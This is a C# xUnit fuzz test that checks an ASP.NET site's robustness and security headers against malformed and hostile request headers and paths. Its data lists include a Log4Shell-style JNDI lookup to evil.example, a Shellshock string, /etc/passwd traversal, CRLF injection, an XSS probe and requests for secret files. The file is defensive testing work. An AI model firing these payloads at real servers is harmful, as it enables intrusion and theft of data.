using System.Globalization;
using System.Net;
using Microsoft.AspNetCore.Http;

namespace AvoidantGuide.Web.Tests;

/// <summary>Whatever stands in the headers: never a failure of the server's, and every answer has the headers that the promises name.</summary>
public sealed class HostileHeadersTests(Site site, BodyLimitsTests.Running running) : IClassFixture<Site>, IClassFixture<BodyLimitsTests.Running>
{
    private const int Seed = 20261123;

    private static readonly string[] _methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "get", "PROPFIND", "M-SEARCH", "X"];

    private static readonly string[] _addresses =
    [
        "/", "/the-switch", "/whole-guide", "/feed.xml", "/sitemap.xml", "/robots.txt", "/favicon.ico", "/search?q=relief", "/search?q=%ED%A0%80%00%FF", "/search?q=" + "%22".PadRight(600, '%').Replace("%%", "%25%", StringComparison.Ordinal) + "25",
        "/journal", "/journal/write", "/journal/keep", "/journal/entries?page=-2147483649", "/journal/entries/x", "/journal/import", "/journal/export", "/leave", "/healthz", "/readyz", "/error/500", "/error/x",
        "/no-such-page", "/%2e%2e/%2e%2e/etc/passwd", "/The-Switch?a=%0d%0aX:y", "/journal/", "//evil.example/", "/%00", "/%ff", "/a%2Fb", "/key-terms%23x", "/preview", "/.git/config", "/appsettings.json",
    ];

    private static readonly string[] _names =
    [
        "Host", "Cookie", "Range", "If-Range", "Accept-Encoding", "Accept", "Accept-Language", "If-None-Match", "If-Match", "If-Modified-Since", "Origin", "Referer", "Sec-Fetch-Site", "Sec-Fetch-Mode",
        "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "X-Forwarded-Prefix", "Forwarded", "X-Real-IP", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "Content-Type", "Content-Encoding", "User-Agent",
        "Expect", "Authorization", "RequestVerificationToken", "traceparent", "tracestate", "baggage", "Request-Id", "X-Odd",
    ];

    private static readonly string[] _values =
    [
        "", " ", ",", ";", "=", "\"", "*", "null", "none", "same-origin", "cross-site", "same-site", "https", "http", "javascript", "https, http", "localhost", "localhost:99999", "localhost:", "[::1", "[::1]:80", "evil.example", "localhost@evil.example", "a b", "::", "%00",
        "https://localhost", "http://localhost", "https://evil.example", "https://localhost:99999", "bytes=0-0", "bytes=-1", "bytes=99999999999999999999-", "bytes=0-,0-,0-", "br;q=1.0001", "br;q=", "gzip;q=0, *;q=0.5", "identity;q=0", "br, br, br;q=0",
        "W/\"x\"", "\"x\", \"y\", *", "\"unclosed", "Thu, 32 Jan 2026 99:99:99 GMT", "__Host-notes=x", "__Host-notes=" + new string('A', 43), "__Host-form=CfDJ8", "__Host-notes=; __Host-notes=a; =; ;", "a=\"b; c",
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=\"", "multipart/form-data; boundary=", "multipart/form-data; boundary=\"a\"; boundary=b", "text/plain", "/", "a/b/c;;",
        "100-continue", "gzip", "203.0.113.5", "203.0.113.5, 203.0.113.6", "for=\"[2001:db8::1]\";proto=https;host=evil.example", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "(){ :;}; echo", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "<script>alert(1)</script>", new string('w', 4_000),
    ];

    [Fact]
    public async Task Every_answer_is_one_for_a_person_whatever_the_headers_say()
    {
        var random = new Random(Seed);
        for (var run = 0; run < Fuzz.Runs(300); run++)
        {
            var (method, address, headers) = Request(random);
            var said = $"Seed {Seed}, run {run}: {method} {address} {string.Join(" | ", headers.Select(header => $"{header.Name}: {header.Value}"))}";
            var parts = address.Split('?', 2);
            HttpContext answer;
            try
            {
                answer = await site.Server.SendAsync(
                    asked =>
                    {
                        asked.Request.Method = method;
                        asked.Request.Scheme = "https";
                        asked.Request.Host = new HostString("localhost");
                        asked.Request.Path = Uri.UnescapeDataString(parts[0]);
                        asked.Request.QueryString = new QueryString(parts.Length > 1 ? "?" + parts[1] : "");
                        asked.Connection.RemoteIpAddress = IPAddress.Loopback;
                        foreach (var (name, value) in headers) asked.Request.Headers.Append(name, value);
                    },
                    TestContext.Current.CancellationToken);
            }
            catch (Exception failure)
            {
                throw new InvalidOperationException(said, failure);
            }

            using var reader = new StreamReader(answer.Response.Body);
            AssertForAPerson(answer.Response.StatusCode, await reader.ReadToEndAsync(TestContext.Current.CancellationToken), said);
            foreach (var needed in new[] { "Content-Security-Policy", "Strict-Transport-Security", "X-Content-Type-Options", "X-Frame-Options" })
                Assert.True(answer.Response.Headers.ContainsKey(needed), $"{needed}: {said}");
            Assert.False(answer.Response.Headers.Location.ToString().Contains("evil.example", StringComparison.Ordinal), said);
        }
    }

    [Fact]
    public async Task The_real_server_answers_them_as_well()
    {
        var random = new Random(Seed + 1);
        var server = running.Server.Address;
        for (var run = 0; run < Fuzz.Runs(250); run++)
        {
            var (method, address, headers) = Request(random);
            var own = headers.Any(header => header.Name == "Host") ? "" : $"Host: {server.Authority}\r\n";
            var lines = string.Concat(headers.Select(header => $"{header.Name}: {header.Value}\r\n"));
            await using var sent = await RawRequest.SendAsync(server, $"{method} {address} HTTP/1.1\r\n{own}{lines}Connection: close\r\nContent-Length: 0\r\n\r\n");

            var answer = await sent.AnswerAsync();

            var said = $"Seed {Seed + 1}, run {run}: {method} {address} {lines}";
            Assert.True(answer.Status is >= 200, said);
            AssertForAPerson(answer.Status, answer.Body, said);
            // What Kestrel refuses by itself has no body, and none of the site's headers.
            var refused = answer.Status is 400 or 431 && !answer.Head.Contains("Content-Type", StringComparison.Ordinal);
            Assert.True(refused || answer.Head.Contains("Content-Security-Policy: ", StringComparison.Ordinal), said);
            Assert.False(answer.Head.Contains("Server: ", StringComparison.Ordinal) || answer.Head.Contains("//evil.example", StringComparison.Ordinal), said);
        }

        Assert.DoesNotContain("ERR", running.Server.Output, StringComparison.Ordinal);
    }

    private static (string Method, string Address, List<(string Name, string Value)> Headers) Request(Random random)
    {
        string Any(string[] from) => from[random.Next(from.Length)];
        // Most of what is asked is asked for with GET.
        var method = random.Next(3) > 0 ? "GET" : Any(_methods);
        return (method, Any(_addresses), [.. Enumerable.Range(0, random.Next(1, 6)).Select(_ => (Any(_names), Any(_values)))]);
    }

    private static void AssertForAPerson(int status, string body, string said)
    {
        // 503 where the store is not ready, which it is here; 501 is nothing that the site says.
        Assert.True(status < 500, string.Create(CultureInfo.InvariantCulture, $"{status} for {said}"));
        foreach (var leak in new[] { "   at ", "Exception:", ".cs:line", "alert(1)</script>" }) Assert.False(body.Contains(leak, StringComparison.Ordinal), $"{leak} for {said}");
    }
}
